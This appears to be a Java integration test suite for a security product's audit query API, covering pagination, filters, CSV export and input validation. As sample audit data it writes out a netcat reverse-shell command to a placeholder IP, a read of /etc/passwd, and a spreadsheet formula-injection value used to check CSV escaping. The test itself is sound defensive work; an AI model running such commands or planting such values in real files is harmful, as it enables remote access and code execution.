package io.ward.event.audit;

import static io.ward.event.Api.asAdmin;
import static io.ward.event.Api.assertJson;
import static io.ward.event.Api.processAudit;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.ward.event.Api;
import io.ward.event.Classified;
import io.ward.event.WardStack;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;

/** GET /api/v1/audits/app-embedded: filters, cursor pages while audits keep arriving, count, CSV export. */
@QuarkusTest
@QuarkusTestResource(value = WardStack.class, restrictToAnnotatedClass = false)
class AuditQueryTest {

    private static final String PATH = "/api/v1/audits/app-embedded";

    @Test
    void cursorPagesStayCorrectWhileAuditsArrive() throws Exception {
        String app = Api.newAppId("pages");
        Instant base = Api.now().minusSeconds(3600);
        List<Map<String, Object>> original = new ArrayList<>();
        for (int i = 0; i < 130; i++) {
            // Pairs share a time so the id breaks ties.
            original.add(processAudit(app, base.plusMillis((i / 2) * 100L), "/bin/sh -c ls " + i));
        }
        asAdmin().body(original).post(PATH).then().statusCode(200);

        AtomicBoolean stop = new AtomicBoolean();
        AtomicInteger sent = new AtomicInteger();
        Thread writer = new Thread(() -> {
            while (!stop.get()) {
                // Newer audits arrive at the top while older pages are read.
                asAdmin().body(List.of(processAudit(app, Api.now(), "/bin/sh -c date"))).post(PATH).then().statusCode(200);
                sent.incrementAndGet();
            }
        });
        writer.start();
        List<JsonNode> seen = new ArrayList<>();
        String cursor = null;
        int pages = 0;
        do {
            var request = asAdmin().queryParam("appId", app).queryParam("limit", 20);
            if (cursor != null) {
                request.queryParam("cursor", cursor);
            }
            JsonNode page = Api.tree(request.get(PATH).then().statusCode(200).extract().asString());
            page.get("items").forEach(seen::add);
            cursor = page.get("nextCursor").isNull() ? null : page.get("nextCursor").asText();
            pages++;
            Thread.sleep(30);
        } while (cursor != null);
        stop.set(true);
        writer.join();

        assertTrue(sent.get() > 0, "audits were inserted while paging");
        Set<String> ids = new LinkedHashSet<>();
        for (int i = 0; i < seen.size(); i++) {
            assertTrue(ids.add(seen.get(i).get("id").asText()), "no audit twice: " + seen.get(i));
            if (i > 0) {
                JsonNode prev = seen.get(i - 1);
                JsonNode cur = seen.get(i);
                int byTime = Instant.parse(prev.get("time").asText()).compareTo(Instant.parse(cur.get("time").asText()));
                assertTrue(byTime > 0 || (byTime == 0 && UUID.fromString(prev.get("id").asText())
                        .compareTo(UUID.fromString(cur.get("id").asText())) != 0), "newest first");
            }
        }
        for (Map<String, Object> audit : original) {
            assertTrue(ids.contains((String) audit.get("id")), "every audit stored before paging is on a page");
        }
        assertTrue(pages >= 7, "130 audits in pages of 20");
    }

    @Test
    void filtersSelectExactlyTheMatchingAudits() {
        String app = Api.newAppId("filters");
        Instant t = Api.now().minusSeconds(600);
        Map<String, Object> ls = processAudit(app, t, "/bin/sh -c ls");
        Map<String, Object> prevented = processAudit(app, t.plusSeconds(1), "/bin/sh -c cat /etc/passwd");
        prevented.put("effect", "prevent");
        prevented.put("ruleName", "Strict");
        prevented.put("instanceId", app + ":other");
        Map<String, Object> net = processAudit(app, t.plusSeconds(2), "nc -e /bin/sh 203.0.113.9 4444");
        net.put("type", "network");
        net.put("reason", "outbound");
        net.put("network", Map.of("direction", "outbound", "protocol", "tcp", "ip", "203.0.113.9", "port", 4444));
        Map<String, Object> percent = processAudit(app, t.plusSeconds(3), "echo 100%_done");
        asAdmin().body(List.of(ls, prevented, net, percent)).post(PATH).then().statusCode(200);

        assertIds(app, Map.of(), percent, net, prevented, ls);
        assertIds(app, Map.of("effect", "prevent"), prevented);
        assertIds(app, Map.of("ruleName", "Strict"), prevented);
        assertIds(app, Map.of("instanceId", app + ":other"), prevented);
        assertIds(app, Map.of("type", "network"), net);
        assertIds(app, Map.of("q", "etc/PASSWD"), prevented);
        assertIds(app, Map.of("q", "% "));
        assertIds(app, Map.of("q", "100%_"), percent);
        assertIds(app, Map.of("q", "0%_"), percent);
        assertIds(app, Map.of("q", "1_0"));
        assertIds(app, Map.of("from", t.plusSeconds(1).toString(), "to", t.plusSeconds(3).toString()), net, prevented);
        assertIds(app, Map.of("type", "processes", "effect", "alert"), percent, ls);
    }

    @Test
    void csvExportStreamsEveryMatchingAudit() throws InterruptedException {
        String app = Api.newAppId("csv");
        Instant t = Api.now().minusSeconds(300);
        Map<String, Object> plain = processAudit(app, t, "/bin/sh -c ls");
        Map<String, Object> tricky = processAudit(app, t.plusSeconds(1), "=cmd|' /C calc'!A0, \"quoted\"");
        asAdmin().body(List.of(plain, tricky)).post(PATH).then().statusCode(200);
        // Classified first, so the tactics and techniques columns are settled when the export is read.
        List<JsonNode> items = Classified.awaitAll(app, 2, java.time.Duration.ofSeconds(60));

        String csv = asAdmin().accept("text/csv").queryParam("appId", app).get(PATH).then().statusCode(200)
                .contentType("text/csv").header("Content-Disposition", "attachment; filename=\"audits.csv\"")
                .extract().asString();
        String expected = "time,id,appId,instanceId,type,effect,reason,ruleName,ruleRevision,message,processPath,command,"
                + "pid,ppid,parentPath,user,uid,network,dns,tactics,techniques,receivedAt\r\n"
                + row(tricky, "\"/bin/dash launched and is not allowed by rule Org App-Embedded Runtime Protection Policy."
                        + " Full command: =cmd|' /C calc'!A0, \"\"quoted\"\"\"", "\"'=cmd|' /C calc'!A0, \"\"quoted\"\"\"",
                        items.get(0))
                + row(plain, "/bin/dash launched and is not allowed by rule Org App-Embedded Runtime Protection Policy."
                        + " Full command: /bin/sh -c ls", "/bin/sh -c ls", items.get(1));
        assertEquals(expected, csv);
    }

    @Test
    void badParametersAreNamed() {
        assertJson("""
                {"type":"about:blank","title":"Bad Request","status":400,"detail":"The request has 1 invalid field(s).",
                 "errors":[{"field":"limit","message":"must be between 1 and 500"}]}""",
                asAdmin().queryParam("limit", 0).get(PATH).then().statusCode(400).extract().asString());
        assertJson("""
                {"type":"about:blank","title":"Bad Request","status":400,
                 "detail":"The request has 1 invalid field(s).",
                 "errors":[{"field":"cursor","message":"is not a cursor returned by this service"}]}""",
                asAdmin().queryParam("cursor", "bm9wZQ").get(PATH).then().statusCode(400).extract().asString());
        assertJson("""
                {"type":"about:blank","title":"Bad Request","status":400,
                 "detail":"The request has 1 invalid field(s).",
                 "errors":[{"field":"from","message":"must be an ISO-8601 time such as 2026-11-28T12:00:00Z"}]}""",
                asAdmin().queryParam("from", "yesterday").get(PATH + "/count").then().statusCode(400).extract().asString());
        assertJson("""
                {"type":"about:blank","title":"Bad Request","status":400,
                 "detail":"The request has 1 invalid field(s).",
                 "errors":[{"field":"type","message":"must be one of processes, network, dns, filesystem"}]}""",
                asAdmin().queryParam("type", "files").get(PATH).then().statusCode(400).extract().asString());
    }

    /** The CSV row of a posted process audit, tactics/techniques/receivedAt left to the caller's normalisation. */
    @SuppressWarnings("unchecked")
    private static String row(Map<String, Object> audit, String message, String command, JsonNode stored) {
        Map<String, Object> p = (Map<String, Object>) audit.get("process");
        return String.join(",", (String) audit.get("time"), (String) audit.get("id"), (String) audit.get("appId"),
                (String) audit.get("instanceId"), "processes", "alert", "not-allowed",
                "Org App-Embedded Runtime Protection Policy", "17", message, "/bin/dash", command, "4711", "12",
                "/usr/local/bin/python3.9", "antitree", "999", "", "", attackCell(stored, "tactic"),
                attackCell(stored, "techniqueId"), stored.get("receivedAt").asText()) + "\r\n";
    }

    /** The distinct values of {@code field} over the stored audit's techniques, space separated. */
    private static String attackCell(JsonNode stored, String field) {
        Set<String> values = new LinkedHashSet<>();
        stored.get("attack").forEach(t -> values.add(t.get(field).asText()));
        return String.join(" ", values);
    }

    @SafeVarargs
    private static void assertIds(String app, Map<String, String> filter, Map<String, Object>... expected) {
        var request = asAdmin().queryParam("appId", app);
        filter.forEach(request::queryParam);
        JsonNode items = Api.tree(request.get(PATH).then().statusCode(200).extract().asString()).get("items");
        List<String> ids = new ArrayList<>();
        items.forEach(i -> ids.add(i.get("id").asText()));
        List<String> want = new ArrayList<>();
        for (Map<String, Object> e : expected) {
            want.add((String) e.get("id"));
        }
        assertEquals(want, ids, "filter " + filter);
        var count = asAdmin().queryParam("appId", app);
        filter.forEach(count::queryParam);
        assertJson("{\"count\":" + want.size() + "}", count.get(PATH + "/count").then().statusCode(200).extract().asString());
        assertEquals(new HashSet<>(want).size(), want.size());
    }
}
